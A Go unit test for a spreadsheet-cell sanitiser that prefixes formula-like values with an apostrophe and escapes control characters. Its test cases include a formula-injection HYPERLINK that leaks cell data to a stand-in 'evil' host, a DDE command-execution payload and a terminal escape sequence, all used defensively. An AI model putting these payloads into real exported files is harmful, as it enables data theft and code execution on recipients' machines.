package report

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// TestSafeCell: cells a spreadsheet would evaluate as a formula get a leading apostrophe;
// control characters are shown escaped; others are kept as they are.
func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", `\t=1`},                         // shown escaped: no longer a leading tab
		{"\x1b]0;owned\a=1", `\x1b]0;owned\a=1`}, // no escape sequence reaches a terminal
		{"10.0.0.1", "10.0.0.1"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tc := range tests {
		require.Equal(t, tc.want, SafeCell(tc.in), tc.in)
	}
}
